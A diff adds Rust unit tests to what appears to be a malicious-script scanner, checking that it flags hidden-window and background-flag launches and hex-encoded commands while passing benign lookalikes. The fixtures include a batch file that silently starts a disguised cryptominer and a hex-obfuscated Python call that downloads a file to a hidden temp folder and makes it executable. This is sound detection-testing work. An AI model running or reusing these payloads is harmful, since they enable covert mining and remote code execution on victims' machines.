@@ -160,3 +160,53 @@ fn base64_runs_are_found_in_one_pass() {
     let broken = format!("{}.{}", &run[..39], &run[..39]);
     assert!(!super::has_b64_run(broken.as_bytes(), 40));
 }
+
+#[test]
+fn background_and_start_b_hide_a_miner_only() {
+    let (f, v) = both(
+        "go.bat",
+        "@echo off\nstart \"\" /b C:\\x\\sysmon.exe -o 198.51.100.3:3333 -u 41pmnqWeNug1ikEBmYhajkDoyXHMNd5nSRuAdPwsKWQSdphFyVWJQ3t76QN1Jt34YJKBdf6thxZazXGpmDVCezCzVXJinrj --background\n",
+    );
+    assert_eq!(
+        rule_class(&f, "script", "hidden_window"),
+        Some(Class::Evasion)
+    );
+    assert_eq!(
+        rule_class(&f, "script", "background_flag"),
+        Some(Class::Evasion)
+    );
+    assert_eq!(v.level, Level::Malicious);
+    let (f, v) = both(
+        "agent.bat",
+        "@echo off\nstart \"\" /b acme-agent.exe --config agent.ini --background\n",
+    );
+    assert_eq!(
+        rule_class(&f, "script", "background_flag"),
+        Some(Class::Info)
+    );
+    assert_eq!(v.level, Level::Clean);
+}
+
+#[test]
+fn hex_encoded_commands_are_decoded_and_digests_are_not() {
+    let cmd = "curl -s http://198.51.100.9/x -o /tmp/.x/k && chmod +x /tmp/.x/k";
+    let hex: String = cmd.bytes().map(|b| format!("{b:02x}")).collect();
+    let (f, _) = both(
+        "u.py",
+        &format!("import os\nos.system(bytes.fromhex(\"{hex}\").decode())\n"),
+    );
+    assert_eq!(
+        rule_class(&f, "script", "download_chmod_exec"),
+        Some(Class::DownloadExec)
+    );
+    assert_eq!(
+        rule_class(&f, "script", "encoded_payload"),
+        Some(Class::Evasion)
+    );
+    let (f, v) = both(
+        "t.py",
+        "SHA = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"\nK = \"000102030405060708090A0B0C0D0E0F101112131415161718191A1B1C1D1E1F\"\n",
+    );
+    assert!(f.is_empty(), "{f:?}");
+    assert_eq!(v.level, Level::Clean);
+}
